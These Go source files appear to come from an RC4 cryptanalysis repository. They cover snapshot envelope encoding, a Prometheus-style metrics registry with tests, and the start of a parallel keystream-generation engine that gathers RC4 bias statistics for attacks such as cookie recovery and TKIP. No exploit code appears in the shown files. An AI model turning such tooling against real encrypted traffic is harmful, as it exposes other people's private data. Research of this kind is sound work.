// the wire framing: a network peer sends the payload inside an envelope
// (Write), and the receiver dispatches on the envelope kind before decoding
// (DecodeGob).
func EncodeGob(v any) ([]byte, error) {
	var buf bytes.Buffer
	if err := gob.NewEncoder(&buf).Encode(v); err != nil {
		return nil, err
	}
	return buf.Bytes(), nil
}

// DecodeGob decodes an envelope payload previously produced by EncodeGob or
// WriteGob. It exists for readers that must inspect the envelope kind before
// choosing a destination type — the RPC pattern: Read the envelope, switch
// on kind, DecodeGob into the matching message struct. The envelope is
// already self-delimiting (length-prefixed) and checksummed, so one envelope
// per message is the repository's whole wire protocol.
func DecodeGob(payload []byte, v any) error {
	return gob.NewDecoder(bytes.NewReader(payload)).Decode(v)
}

// ReadGob reads one envelope, checks it carries wantKind, and gob-decodes
// the payload into v.
func ReadGob(r io.Reader, wantKind string, v any) error {
	kind, payload, err := Read(r)
	if err != nil {
		return err
	}
	if kind != wantKind {
		return fmt.Errorf("snapshot: envelope holds %q, want %q", kind, wantKind)
	}
	return gob.NewDecoder(bytes.NewReader(payload)).Decode(v)
}

// WriteFile atomically persists an envelope at path: the bytes land in a
// temporary file in the same directory which is fsynced and renamed over
// path, so a crash mid-write never leaves a torn checkpoint — the previous
// checkpoint, if any, survives intact.
func WriteFile(path, kind string, payload []byte) error {
	dir := filepath.Dir(path)
	tmp, err := os.CreateTemp(dir, filepath.Base(path)+".tmp*")
	if err != nil {
		return err
	}
	defer os.Remove(tmp.Name()) // no-op after a successful rename
	if err := Write(tmp, kind, payload); err != nil {
		tmp.Close()
		return err
	}
	if err := tmp.Sync(); err != nil {
		tmp.Close()
		return err
	}
	if err := tmp.Close(); err != nil {
		return err
	}
	return os.Rename(tmp.Name(), path)
}

// WriteFileGob atomically persists v as a gob-encoded envelope at path (see
// WriteFile for the crash-safety guarantees).
func WriteFileGob(path, kind string, v any) error {
	var buf bytes.Buffer
	if err := gob.NewEncoder(&buf).Encode(v); err != nil {
		return err
	}
	return WriteFile(path, kind, buf.Bytes())
}

// ReadFileGob loads an envelope of wantKind from path into v.
func ReadFileGob(path, wantKind string, v any) error {
	f, err := os.Open(path)
	if err != nil {
		return err
	}
	defer f.Close()
	return ReadGob(f, wantKind, v)
}

// Sniff reads just enough of r to decide whether it starts with the
// envelope magic, returning a reader that replays the inspected bytes. It
// lets loaders accept both enveloped files and legacy pre-envelope gob
// streams.
func Sniff(r io.Reader) (replay io.Reader, isEnvelope bool, err error) {
	peek := make([]byte, MagicLen)
	n, err := io.ReadFull(r, peek)
	if err != nil && err != io.EOF && err != io.ErrUnexpectedEOF {
		return nil, false, err
	}
	peek = peek[:n]
	return io.MultiReader(bytes.NewReader(peek), r), string(peek) == Magic, nil
}

// BlobKey is the content address of an envelope in a content-addressed
// store: a 16-byte digest over the kind and the payload bytes, so two
// envelopes carry the same key iff they carry the same kind and bitwise
// payload. The digest is the same two-pass FNV-1a construction as
// Fingerprint (forward and reversed streams), with the kind folded in
// length-prefixed so ("ab", "c") and ("a", "bc") cannot collide. Like
// Fingerprint this is an accident detector, not an authenticator — the
// store re-derives keys on read, so a corrupted blob fails lookup rather
// than serving wrong bytes.
func BlobKey(kind string, payload []byte) [16]byte {
	var out [16]byte
	prefix := make([]byte, 0, 4+len(kind))
	prefix = binary.BigEndian.AppendUint32(prefix, uint32(len(kind)))
	prefix = append(prefix, kind...)

	const offset64, prime64 = 14695981039346656037, 1099511628211
	h1 := uint64(offset64)
	for _, c := range prefix {
		h1 = (h1 ^ uint64(c)) * prime64
	}
	for _, c := range payload {
		h1 = (h1 ^ uint64(c)) * prime64
	}
	h2 := uint64(offset64)
	for i := len(payload) - 1; i >= 0; i-- {
		h2 = (h2 ^ uint64(payload[i])) * prime64
	}
	for i := len(prefix) - 1; i >= 0; i-- {
		h2 = (h2 ^ uint64(prefix[i])) * prime64
	}
	binary.BigEndian.PutUint64(out[:8], h1)
	binary.BigEndian.PutUint64(out[8:], h2)
	return out
}

// StreamInfo identifies the capture stream a snapshot's evidence came from:
// the collection mode and the seed its source streams derive from. Resuming
// an exact-mode capture only makes sense against the same stream (the
// resumed process fast-forwards past the records the snapshot already
// holds), so drivers validate this before continuing a shard. Typed fields,
// not a map, keep the gob encoding deterministic — snapshot bytes stay
// comparable across identical runs.
type StreamInfo struct {
	Mode string // "exact" | "model" | "" (unset / library-level use)
	Seed int64
	// Lane subdivides one (Mode, Seed) stream into disjoint capture lanes —
	// the fleet coordinator leases lane k of a stream to one worker at a
	// time, and duplicate-upload rejection compares the full identity
	// including the lane. Zero for whole-stream shards (gob omits zero
	// fields, so pre-lane snapshots decode and encode identically).
	Lane uint64
}

// Fingerprint is a stable 16-byte digest of a gob-encodable configuration
// value, used to reject merges and resumes across mismatched layouts (a
// shard captured against a different plaintext, model, or position set).
// FNV-1a over the gob stream is deterministic for a fixed type and ample
// for accident detection; this is an integrity check, not an authenticator.
func Fingerprint(v any) ([16]byte, error) {
	var out [16]byte
	var buf bytes.Buffer
	if err := gob.NewEncoder(&buf).Encode(v); err != nil {
		return out, err
	}
	// Two independent 64-bit FNV-1a passes (the second over the reversed
	// stream) fill the 128-bit fingerprint.
	const offset64, prime64 = 14695981039346656037, 1099511628211
	b := buf.Bytes()
	h1 := uint64(offset64)
	for _, c := range b {
		h1 = (h1 ^ uint64(c)) * prime64
	}
	h2 := uint64(offset64)
	for i := len(b) - 1; i >= 0; i-- {
		h2 = (h2 ^ uint64(b[i])) * prime64
	}
	binary.BigEndian.PutUint64(out[:8], h1)
	binary.BigEndian.PutUint64(out[8:], h2)
	return out, nil
}
