package metrics

import (
	"math"
	"strings"
	"testing"
	"time"
)

func TestHistogramExposition(t *testing.T) {
	r := NewRegistry()
	h := r.Histogram("decode_seconds", "decode-round latency",
		[]float64{0.001, 0.01, 0.1}, "attack", "cookie")
	h.Observe(0.0005) // bucket 0.001
	h.Observe(0.005)  // bucket 0.01
	h.Observe(0.05)   // bucket 0.1
	h.Observe(5)      // +Inf only
	h.Observe(0.01)   // boundary lands in its own le bucket (cumulative <=)

	out := r.Render()
	want := []string{
		"# HELP decode_seconds decode-round latency",
		"# TYPE decode_seconds histogram",
		`decode_seconds_bucket{attack="cookie",le="0.001"} 1`,
		`decode_seconds_bucket{attack="cookie",le="0.01"} 3`,
		`decode_seconds_bucket{attack="cookie",le="0.1"} 4`,
		`decode_seconds_bucket{attack="cookie",le="+Inf"} 5`,
		`decode_seconds_sum{attack="cookie"} 5.0655`,
		`decode_seconds_count{attack="cookie"} 5`,
		"",
	}
	if got := out; got != strings.Join(want, "\n") {
		t.Fatalf("histogram exposition mismatch:\n got: %q\nwant: %q", got, strings.Join(want, "\n"))
	}
}

func TestHistogramNoLabelsAndDuration(t *testing.T) {
	r := NewRegistry()
	h := r.Histogram("lat", "", ExponentialBuckets(0.001, 10, 3))
	h.ObserveDuration(5 * time.Millisecond)
	out := r.Render()
	for _, line := range []string{
		`lat_bucket{le="0.001"} 0`,
		`lat_bucket{le="0.01"} 1`,
		`lat_bucket{le="0.1"} 1`,
		`lat_bucket{le="+Inf"} 1`,
		"lat_sum 0.005",
		"lat_count 1",
	} {
		if !strings.Contains(out, line+"\n") {
			t.Fatalf("missing %q in:\n%s", line, out)
		}
	}
}

func TestHistogramSharedSeriesAndNaNDropped(t *testing.T) {
	r := NewRegistry()
	a := r.Histogram("h", "", []float64{1})
	b := r.Histogram("h", "", []float64{1})
	a.Observe(0.5)
	b.Observe(0.5)
	a.Observe(math.NaN()) // dropped, not poisoning _sum
	out := r.Render()
	if !strings.Contains(out, "h_count 2\n") || !strings.Contains(out, "h_sum 1\n") {
		t.Fatalf("shared histogram series broken:\n%s", out)
	}
}

func TestExponentialBuckets(t *testing.T) {
	got := ExponentialBuckets(1, 2, 4)
	want := []float64{1, 2, 4, 8}
	for i := range want {
		if got[i] != want[i] {
			t.Fatalf("ExponentialBuckets = %v, want %v", got, want)
		}
	}
	for _, bad := range []func(){
		func() { ExponentialBuckets(0, 2, 3) },
		func() { ExponentialBuckets(1, 1, 3) },
		func() { ExponentialBuckets(1, 2, 0) },
		func() { r := NewRegistry(); r.Histogram("x", "", nil) },
		func() { r := NewRegistry(); r.Histogram("x", "", []float64{2, 1}) },
		func() { r := NewRegistry(); r.Histogram("x", "", []float64{math.Inf(1)}) },
	} {
		func() {
			defer func() {
				if recover() == nil {
					t.Fatalf("expected panic")
				}
			}()
			bad()
		}()
	}
}

func TestCounterRejectsNegativeDelta(t *testing.T) {
	r := NewRegistry()
	c := r.Counter("mono_total", "")
	c.Add(3)
	for _, delta := range []float64{-1, math.NaN()} {
		func() {
			defer func() {
				if recover() == nil {
					t.Fatalf("Add(%v) did not panic", delta)
				}
			}()
			c.Add(delta)
		}()
	}
	// The rejected deltas must not have corrupted the series.
	if !strings.Contains(r.Render(), "mono_total 3\n") {
		t.Fatalf("counter corrupted after rejected deltas:\n%s", r.Render())
	}
	c.Add(0) // zero stays legal
}

func TestExpositionEdgeCases(t *testing.T) {
	// Empty registry renders to valid (empty) output.
	if out := NewRegistry().Render(); out != "" {
		t.Fatalf("empty registry rendered %q", out)
	}

	// Label values with every escape-relevant byte survive round-trip
	// escaping in both plain series and histogram bucket lines.
	r := NewRegistry()
	hostile := "quote\" slash\\ newline\ntab\t"
	r.Gauge("g", "", "k", hostile).Set(1)
	r.Histogram("h", "", []float64{1}, "k", hostile).Observe(2)
	out := r.Render()
	escaped := `k="quote\" slash\\ newline\ntab	"`
	for _, line := range []string{
		"g{" + escaped + "} 1",
		"h_bucket{" + escaped + `,le="1"} 0`,
		"h_bucket{" + escaped + `,le="+Inf"} 1`,
		"h_sum{" + escaped + "} 2",
		"h_count{" + escaped + "} 1",
	} {
		if !strings.Contains(out, line+"\n") {
			t.Fatalf("missing %q in:\n%s", line, out)
		}
	}

	// NaN and ±Inf gauge values render in the exposition spellings the
	// text format defines (NaN, +Inf, -Inf per strconv 'g').
	r2 := NewRegistry()
	r2.Gauge("nan", "").Set(math.NaN())
	r2.Gauge("pinf", "").Set(math.Inf(1))
	r2.Gauge("ninf", "").Set(math.Inf(-1))
	out2 := r2.Render()
	for _, line := range []string{"nan NaN", "pinf +Inf", "ninf -Inf"} {
		if !strings.Contains(out2, line+"\n") {
			t.Fatalf("missing %q in:\n%s", line, out2)
		}
	}
}

func TestRuntimeGauges(t *testing.T) {
	r := NewRegistry()
	RuntimeGauges(r)
	out := r.Render()
	for _, name := range []string{"go_goroutines ", "go_gomaxprocs ", "go_heap_alloc_bytes ", "go_gc_pause_seconds_total "} {
		if !strings.Contains(out, name) {
			t.Fatalf("missing runtime gauge %q in:\n%s", name, out)
		}
	}
	// Sanity: a live process has at least one goroutine and one proc.
	if strings.Contains(out, "go_goroutines 0\n") || strings.Contains(out, "go_gomaxprocs 0\n") {
		t.Fatalf("implausible runtime gauge values:\n%s", out)
	}
}
