// Package metrics is a minimal Prometheus-text-format instrumentation
// registry shared by the repository's daemons (cmd/attackd, cmd/fleetd).
// It deliberately implements only what those daemons expose — counters,
// gauges, callback gauges, fixed label sets — rather than pulling in the
// full client library: the module has a no-new-dependencies constraint, and
// the text exposition format is small enough to emit directly.
//
// Families render in sorted name order and series in sorted label order, so
// /metrics output is deterministic for a fixed set of values and diffs
// cleanly between scrapes.
package metrics

import (
	"fmt"
	"net/http"
	"sort"
	"strconv"
	"strings"
	"sync"
)

// Registry holds metric families and renders them in the Prometheus text
// exposition format. The zero value is not usable; call NewRegistry.
type Registry struct {
	mu       sync.Mutex
	families map[string]*family
}

type family struct {
	name, help, typ string
	series          map[string]*series // keyed by rendered label block
}

type series struct {
	labels string // `{k="v",...}` or ""
	val    float64
	fn     func() float64
	hist   *histData // non-nil only for histogram families
}

// NewRegistry returns an empty registry.
func NewRegistry() *Registry {
	return &Registry{families: make(map[string]*family)}
}

// Counter is a monotonically increasing series. All methods are safe for
// concurrent use.
type Counter struct {
	reg *Registry
	s   *series
}

// Inc adds one.
func (c *Counter) Inc() { c.Add(1) }

// Add adds delta. A negative delta panics: counters are monotonic by
// contract, and a silently applied negative delta corrupts the series in a
// way that only shows up later as an impossible rate() — failing loudly at
// the buggy call site is strictly cheaper to debug. NaN is rejected for the
// same reason (it would poison the series forever).
func (c *Counter) Add(delta float64) {
	if delta < 0 || delta != delta {
		panic(fmt.Sprintf("metrics: counter Add(%v): negative or NaN delta on monotonic series", delta))
	}
	c.reg.mu.Lock()
	c.s.val += delta
	c.reg.mu.Unlock()
}

// Gauge is a series that can go up and down.
type Gauge struct {
	reg *Registry
	s   *series
}

// Set replaces the gauge value.
func (g *Gauge) Set(v float64) {
	g.reg.mu.Lock()
	g.s.val = v
	g.reg.mu.Unlock()
}

// Add adjusts the gauge by delta.
func (g *Gauge) Add(delta float64) {
	g.reg.mu.Lock()
	g.s.val += delta
	g.reg.mu.Unlock()
}

// Counter registers (or finds) the counter series for name and the given
// label pairs ("key", "value", ...). Registering one name with conflicting
// help strings keeps the first; a name registered as a counter cannot later
// be a gauge (panic — that is a programming error, not a runtime condition).
func (r *Registry) Counter(name, help string, labelPairs ...string) *Counter {
	return &Counter{reg: r, s: r.register(name, help, "counter", nil, labelPairs)}
}

// Gauge registers (or finds) the gauge series for name and label pairs.
func (r *Registry) Gauge(name, help string, labelPairs ...string) *Gauge {
	return &Gauge{reg: r, s: r.register(name, help, "gauge", nil, labelPairs)}
}

// GaugeFunc registers a gauge whose value is read from fn at render time —
// for values the owner already tracks (queue depth, jobs per state) where a
// second copy could drift.
func (r *Registry) GaugeFunc(name, help string, fn func() float64, labelPairs ...string) {
	if fn == nil {
		panic("metrics: nil GaugeFunc callback")
	}
	r.register(name, help, "gauge", fn, labelPairs)
}

func (r *Registry) register(name, help, typ string, fn func() float64, labelPairs []string) *series {
	labels := renderLabels(labelPairs)
	r.mu.Lock()
	defer r.mu.Unlock()
	f := r.families[name]
	if f == nil {
		f = &family{name: name, help: help, typ: typ, series: make(map[string]*series)}
		r.families[name] = f
	} else if f.typ != typ {
		panic(fmt.Sprintf("metrics: %s registered as both %s and %s", name, f.typ, typ))
	}
	s := f.series[labels]
	if s == nil {
		s = &series{labels: labels, fn: fn}
		f.series[labels] = s
	}
	return s
}

func renderLabels(pairs []string) string {
	if len(pairs) == 0 {
		return ""
	}
	if len(pairs)%2 != 0 {
		panic("metrics: label pairs must come as key, value")
	}
	type kv struct{ k, v string }
	kvs := make([]kv, 0, len(pairs)/2)
	for i := 0; i < len(pairs); i += 2 {
		kvs = append(kvs, kv{pairs[i], pairs[i+1]})
	}
	sort.Slice(kvs, func(i, j int) bool { return kvs[i].k < kvs[j].k })
	var b strings.Builder
	b.WriteByte('{')
	for i, p := range kvs {
		if i > 0 {
			b.WriteByte(',')
		}
		b.WriteString(p.k)
		b.WriteString(`="`)
		b.WriteString(escapeLabel(p.v))
		b.WriteByte('"')
	}
	b.WriteByte('}')
	return b.String()
}

func escapeLabel(v string) string {
	v = strings.ReplaceAll(v, `\`, `\\`)
	v = strings.ReplaceAll(v, "\n", `\n`)
	return strings.ReplaceAll(v, `"`, `\"`)
}

// Render writes the whole registry in the text exposition format.
func (r *Registry) Render() string {
	r.mu.Lock()
	names := make([]string, 0, len(r.families))
	for name := range r.families {
		names = append(names, name)
	}
	sort.Strings(names)

	var b strings.Builder
	for _, name := range names {
		f := r.families[name]
		if f.help != "" {
			fmt.Fprintf(&b, "# HELP %s %s\n", f.name, f.help)
		}
		fmt.Fprintf(&b, "# TYPE %s %s\n", f.name, f.typ)
		keys := make([]string, 0, len(f.series))
		for k := range f.series {
			keys = append(keys, k)
		}
		sort.Strings(keys)
		for _, k := range keys {
			s := f.series[k]
			if s.hist != nil {
				renderHistogram(&b, f.name, s)
				continue
			}
			v := s.val
			if s.fn != nil {
				// Release the lock around the callback: GaugeFunc owners
				// (the job server) may take their own locks that in turn
				// update registry values on other paths.
				r.mu.Unlock()
				v = s.fn()
				r.mu.Lock()
			}
			b.WriteString(f.name)
			b.WriteString(s.labels)
			b.WriteByte(' ')
			b.WriteString(strconv.FormatFloat(v, 'g', -1, 64))
			b.WriteByte('\n')
		}
	}
	r.mu.Unlock()
	return b.String()
}

// Handler serves the registry as a Prometheus /metrics endpoint.
func (r *Registry) Handler() http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/plain; version=0.0.4; charset=utf-8")
		_, _ = w.Write([]byte(r.Render()))
	})
}

// Healthz returns a /healthz handler: 200 "ok" while ready returns nil, 503
// with the error text otherwise. A nil ready callback is always healthy.
func Healthz(ready func() error) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/plain; charset=utf-8")
		if ready != nil {
			if err := ready(); err != nil {
				http.Error(w, err.Error(), http.StatusServiceUnavailable)
				return
			}
		}
		fmt.Fprintln(w, "ok")
	})
}
