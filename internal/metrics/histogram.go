package metrics

import (
	"fmt"
	"math"
	"sort"
	"strconv"
	"strings"
	"time"
)

// Histogram is a fixed-bucket latency/size distribution rendered in the
// Prometheus histogram exposition shape: cumulative `name_bucket{le="..."}`
// series, `name_sum`, and `name_count`. Buckets are fixed at registration —
// observation is a binary search plus one addition under the registry lock,
// and the render order is deterministic like every other family.
type Histogram struct {
	reg *Registry
	s   *series
}

// histData is the histogram payload hung off a series. counts[i] is the
// number of observations <= bounds[i]; countInf catches the rest.
type histData struct {
	bounds   []float64
	counts   []uint64
	countInf uint64
	sum      float64
}

// ExponentialBuckets returns n upper bounds starting at start and growing by
// factor — the standard latency-histogram shape. Panics on a non-positive
// start, a factor <= 1, or n < 1.
func ExponentialBuckets(start, factor float64, n int) []float64 {
	if start <= 0 || factor <= 1 || n < 1 {
		panic(fmt.Sprintf("metrics: ExponentialBuckets(%v, %v, %d): need start > 0, factor > 1, n >= 1", start, factor, n))
	}
	out := make([]float64, n)
	for i := range out {
		out[i] = start
		start *= factor
	}
	return out
}

// Histogram registers (or finds) the histogram series for name, buckets
// (strictly increasing upper bounds; the +Inf bucket is implicit), and label
// pairs. Re-registering an existing series returns it unchanged; the buckets
// argument must match the first registration's shape or the render would be
// incoherent, so a mismatch panics.
func (r *Registry) Histogram(name, help string, buckets []float64, labelPairs ...string) *Histogram {
	if len(buckets) == 0 {
		panic("metrics: histogram needs at least one bucket bound")
	}
	for i, b := range buckets {
		if math.IsNaN(b) || math.IsInf(b, 0) {
			panic(fmt.Sprintf("metrics: histogram %s bucket %v: bounds must be finite (the +Inf bucket is implicit)", name, b))
		}
		if i > 0 && b <= buckets[i-1] {
			panic(fmt.Sprintf("metrics: histogram %s buckets not strictly increasing at %v", name, b))
		}
	}
	s := r.register(name, help, "histogram", nil, labelPairs)
	r.mu.Lock()
	defer r.mu.Unlock()
	if s.hist == nil {
		s.hist = &histData{
			bounds: append([]float64(nil), buckets...),
			counts: make([]uint64, len(buckets)),
		}
	} else if len(s.hist.bounds) != len(buckets) {
		panic(fmt.Sprintf("metrics: histogram %s re-registered with different bucket count", name))
	}
	return &Histogram{reg: r, s: s}
}

// Observe records one value.
func (h *Histogram) Observe(v float64) {
	if math.IsNaN(v) {
		// A NaN observation would make _sum NaN forever; drop it rather
		// than poison the series.
		return
	}
	h.reg.mu.Lock()
	d := h.s.hist
	i := sort.SearchFloat64s(d.bounds, v)
	if i < len(d.counts) {
		d.counts[i]++
	} else {
		d.countInf++
	}
	d.sum += v
	h.reg.mu.Unlock()
}

// ObserveDuration records d in seconds — the unit every `_seconds` family
// in the repo uses.
func (h *Histogram) ObserveDuration(d time.Duration) {
	h.Observe(d.Seconds())
}

// renderHistogram writes one histogram series: cumulative buckets with the
// `le` label appended after the series' own (sorted) labels, then the
// implicit +Inf bucket, then _sum and _count.
func renderHistogram(b *strings.Builder, name string, s *series) {
	d := s.hist
	var cum uint64
	for i, bound := range d.bounds {
		cum += d.counts[i]
		writeBucket(b, name, s.labels, strconv.FormatFloat(bound, 'g', -1, 64), cum)
	}
	cum += d.countInf
	writeBucket(b, name, s.labels, "+Inf", cum)
	fmt.Fprintf(b, "%s_sum%s %s\n", name, s.labels, strconv.FormatFloat(d.sum, 'g', -1, 64))
	fmt.Fprintf(b, "%s_count%s %d\n", name, s.labels, cum)
}

func writeBucket(b *strings.Builder, name, labels, le string, cum uint64) {
	b.WriteString(name)
	b.WriteString("_bucket")
	if labels == "" {
		b.WriteString(`{le="`)
	} else {
		b.WriteString(labels[:len(labels)-1]) // reopen the rendered block
		b.WriteString(`,le="`)
	}
	b.WriteString(le)
	fmt.Fprintf(b, `"} %d`, cum)
	b.WriteByte('\n')
}
