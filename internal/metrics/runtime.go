package metrics

import (
	"net/http"
	"runtime"
	"time"
)

// RuntimeGauges registers the Go runtime's health gauges on reg — the
// process-level context every latency investigation starts from (is the
// daemon GC-bound? goroutine-leaking? CPU-capped?). Values are read at
// scrape time via GaugeFunc, so an idle registry costs nothing.
func RuntimeGauges(reg *Registry) {
	reg.GaugeFunc("go_goroutines",
		"Number of goroutines that currently exist.",
		func() float64 { return float64(runtime.NumGoroutine()) })
	reg.GaugeFunc("go_gomaxprocs",
		"Value of GOMAXPROCS: OS threads executing Go code simultaneously.",
		func() float64 { return float64(runtime.GOMAXPROCS(0)) })
	reg.GaugeFunc("go_heap_alloc_bytes",
		"Bytes of allocated heap objects.",
		func() float64 {
			var m runtime.MemStats
			runtime.ReadMemStats(&m)
			return float64(m.HeapAlloc)
		})
	reg.GaugeFunc("go_gc_pause_seconds_total",
		"Cumulative stop-the-world GC pause time in seconds.",
		func() float64 {
			var m runtime.MemStats
			runtime.ReadMemStats(&m)
			return float64(m.PauseTotalNs) / 1e9
		})
}

// ObserveHandler wraps next so every request's wall-clock service time is
// recorded into h. It lives here rather than in the daemons because the
// service/fleet packages are determinism-linted (no free time.Now); the
// metrics layer is the sanctioned home for wall-clock reads.
func ObserveHandler(h *Histogram, next http.Handler) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		t0 := time.Now()
		next.ServeHTTP(w, r)
		h.Observe(time.Since(t0).Seconds())
	})
}
