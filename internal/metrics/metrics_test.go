package metrics

import (
	"errors"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
)

var errDraining = errors.New("draining")

func TestRenderDeterministicAndSorted(t *testing.T) {
	r := NewRegistry()
	r.Gauge("z_queue_depth", "waiters").Set(3)
	c := r.Counter("a_jobs_total", "jobs", "state", "done")
	c.Add(2)
	r.Counter("a_jobs_total", "jobs", "state", "failed").Inc()
	r.GaugeFunc("m_uptime", "fixed", func() float64 { return 7.5 })

	want := strings.Join([]string{
		"# HELP a_jobs_total jobs",
		"# TYPE a_jobs_total counter",
		`a_jobs_total{state="done"} 2`,
		`a_jobs_total{state="failed"} 1`,
		"# HELP m_uptime fixed",
		"# TYPE m_uptime gauge",
		"m_uptime 7.5",
		"# HELP z_queue_depth waiters",
		"# TYPE z_queue_depth gauge",
		"z_queue_depth 3",
		"",
	}, "\n")
	if got := r.Render(); got != want {
		t.Fatalf("render mismatch:\n got: %q\nwant: %q", got, want)
	}
	if got := r.Render(); got != want {
		t.Fatal("render must be stable across calls")
	}
}

func TestSameSeriesSharedAndLabelOrderCanonical(t *testing.T) {
	r := NewRegistry()
	r.Counter("hits", "", "b", "2", "a", "1").Add(1)
	r.Counter("hits", "", "a", "1", "b", "2").Add(1)
	out := r.Render()
	if !strings.Contains(out, `hits{a="1",b="2"} 2`) {
		t.Fatalf("label order must canonicalize to one series:\n%s", out)
	}
}

func TestLabelEscaping(t *testing.T) {
	r := NewRegistry()
	r.Gauge("g", "", "k", "a\"b\\c\nd").Set(1)
	if !strings.Contains(r.Render(), `g{k="a\"b\\c\nd"} 1`) {
		t.Fatalf("label value not escaped:\n%s", r.Render())
	}
}

func TestConcurrentUpdates(t *testing.T) {
	r := NewRegistry()
	c := r.Counter("n", "")
	var wg sync.WaitGroup
	for i := 0; i < 8; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for j := 0; j < 1000; j++ {
				c.Inc()
				_ = r.Render()
			}
		}()
	}
	wg.Wait()
	if !strings.Contains(r.Render(), "n 8000") {
		t.Fatalf("lost updates:\n%s", r.Render())
	}
}

func TestHandlers(t *testing.T) {
	r := NewRegistry()
	r.Gauge("up", "").Set(1)
	rec := httptest.NewRecorder()
	r.Handler().ServeHTTP(rec, httptest.NewRequest("GET", "/metrics", nil))
	if rec.Code != 200 || !strings.Contains(rec.Body.String(), "up 1") {
		t.Fatalf("metrics handler: code=%d body=%q", rec.Code, rec.Body.String())
	}
	if ct := rec.Header().Get("Content-Type"); !strings.HasPrefix(ct, "text/plain") {
		t.Fatalf("content type %q", ct)
	}

	rec = httptest.NewRecorder()
	Healthz(nil).ServeHTTP(rec, httptest.NewRequest("GET", "/healthz", nil))
	if rec.Code != 200 || strings.TrimSpace(rec.Body.String()) != "ok" {
		t.Fatalf("healthz: code=%d body=%q", rec.Code, rec.Body.String())
	}
	rec = httptest.NewRecorder()
	Healthz(func() error { return errDraining }).ServeHTTP(rec, httptest.NewRequest("GET", "/healthz", nil))
	if rec.Code != 503 || !strings.Contains(rec.Body.String(), "draining") {
		t.Fatalf("unhealthy healthz: code=%d body=%q", rec.Code, rec.Body.String())
	}
}
