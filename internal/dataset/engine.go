package dataset

import (
	"context"
	"errors"
	"fmt"
	"runtime"
	"sync"
	"sync/atomic"

	"rc4break/internal/obs"
	"rc4break/internal/rc4"
)

// This file is the unified parallel keystream-generation engine. Every
// fan-out loop in the repository — the short-term Observer datasets, the
// long-term digraph collectors, the ABSAB/eq.9 window scans, and TKIP per-TSC
// model training — used to hand-roll the same structure: split keys over
// workers, give each worker a KeySource lane, run KSA + skip + generate per
// key, and merge per-worker counters at the end. The Engine owns that
// structure once, and adds what none of the copies had: context cancellation
// and progress reporting for paper-scale runs.
//
// The delivery model is block-windowed: each key's keystream is delivered as
// Blocks windows of Overlap+BlockLen bytes, where the first Overlap bytes of
// a window repeat the tail of the previous one. Digraph counters set
// Overlap=1 so pairs spanning block boundaries are seen; the ABSAB scan sets
// Overlap=maxGap+4 so the second digraph of the largest gap fits; short-term
// observers set Overlap=0, Blocks=1 and receive each keystream prefix whole.

// Stream describes what to generate for every key of a run.
type Stream struct {
	// Master is the AES-128 master key all RC4 keys derive from (see
	// KeySource). The zero value is valid and gives reproducible runs.
	Master [16]byte
	// KeyLen is the RC4 key length in bytes; 0 means 16.
	KeyLen int
	// KeyDeriver, when non-nil, post-processes each derived key before use.
	// keyIndex is the global key index (shard.FirstKey + offset).
	KeyDeriver func(keyIndex uint64, key []byte)
	// Skip discards this many initial keystream bytes per key.
	Skip int
	// Overlap is how many bytes of each window repeat the previous window's
	// tail (the cross-block carry digraph counters need). The first window's
	// overlap bytes are the first post-skip keystream bytes.
	Overlap int
	// BlockLen is how many fresh keystream bytes each window adds.
	BlockLen int
	// Blocks is the number of windows delivered per key; 0 means 1.
	Blocks int
}

func (st Stream) withDefaults() Stream {
	if st.KeyLen == 0 {
		st.KeyLen = 16
	}
	if st.Blocks == 0 {
		st.Blocks = 1
	}
	return st
}

func (st Stream) validate() error {
	if st.KeyLen < rc4.MinKeyLen || st.KeyLen > rc4.MaxKeyLen {
		return rc4.KeySizeError(st.KeyLen)
	}
	if st.Skip < 0 || st.Overlap < 0 || st.BlockLen < 0 || st.Blocks < 1 {
		return fmt.Errorf("dataset: invalid stream (skip=%d overlap=%d blocklen=%d blocks=%d)",
			st.Skip, st.Overlap, st.BlockLen, st.Blocks)
	}
	return nil
}

// Shard is one unit of engine work: Keys consecutive keys drawn from the
// KeySource lane Lane, with global key indices starting at FirstKey.
type Shard struct {
	Lane     uint64
	FirstKey uint64
	Keys     uint64
}

// SplitKeys builds the canonical shard layout every pre-Engine loop used:
// keys split as evenly as possible over workers (the first keys%workers
// shards get one extra), shard w drawing from lane laneOffset+w. Workers is
// clamped to [1, keys] (GOMAXPROCS when <= 0); zero keys yields no shards.
func SplitKeys(keys uint64, workers int, laneOffset uint64) []Shard {
	if keys == 0 {
		return nil
	}
	if workers <= 0 {
		workers = runtime.GOMAXPROCS(0)
	}
	if uint64(workers) > keys {
		workers = int(keys)
	}
	shards := make([]Shard, workers)
	per := keys / uint64(workers)
	extra := keys % uint64(workers)
	var start uint64
	for w := range shards {
		n := per
		if uint64(w) < extra {
			n++
		}
		shards[w] = Shard{Lane: laneOffset + uint64(w), FirstKey: start, Keys: n}
		start += n
	}
	return shards
}

// Sink consumes the windows of one shard and merges with sinks of other
// shards. Window runs once per generated window in the hot loop, so
// implementations must keep it cheap; the slice is only valid for the
// duration of the call. Merge is called on the shard-0 sink with every other
// shard's sink, in shard order, after all generation finishes.
//
// Window ordering: each key's windows arrive in order (window b before
// window b+1), but windows of *different* keys may interleave — the batched
// rc4 backend generates up to rc4.MultiLanes keys in lockstep and delivers
// each window round for the whole batch before the next round. Sinks must
// therefore be insensitive to cross-key window order; every sink in this
// repository is a commutative counter, for which the interleaving is
// invisible. A sink that needs one key's windows contiguous must run with
// Engine.Backend = rc4.BackendScalar.
type Sink interface {
	Window(win []byte)
	Merge(other Sink) error
}

// Engine runs parallel keystream generation. The zero value is ready to use:
// it runs one worker goroutine per GOMAXPROCS, capped at the shard count.
type Engine struct {
	// Workers is the number of parallel worker goroutines; 0 means
	// GOMAXPROCS. Shards are handed to workers from a queue, so Workers
	// only bounds parallelism — results are identical for any value.
	Workers int
	// Backend selects the rc4 kernel family shard workers generate with.
	// The zero value (rc4.BackendAuto) resolves via the RC4_BACKEND
	// environment variable and the compile-time default; see rc4.Backend.
	// Keystream bytes are identical across backends — only the cross-key
	// window interleaving differs (see Sink).
	Backend rc4.Backend
}

// Run generates every shard's keystream windows in parallel, folds them into
// per-shard sinks produced by newSink (called once per shard, in shard
